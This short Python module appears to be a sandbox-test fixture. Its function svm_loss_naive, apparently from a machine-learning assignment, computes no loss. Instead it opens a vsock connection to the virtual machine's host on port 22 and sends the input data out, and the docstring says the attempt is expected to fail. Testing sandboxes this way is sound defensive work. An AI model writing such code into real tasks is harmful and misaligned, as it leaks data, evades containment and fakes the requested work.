"""Reach the host of a virtual machine by a socket that no network namespace holds.

Fails: the kernel is told to refuse every socket.
"""

import socket

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as host:
        host.connect((socket.VMADDR_CID_HOST, 22))
        host.sendall(X.tobytes())
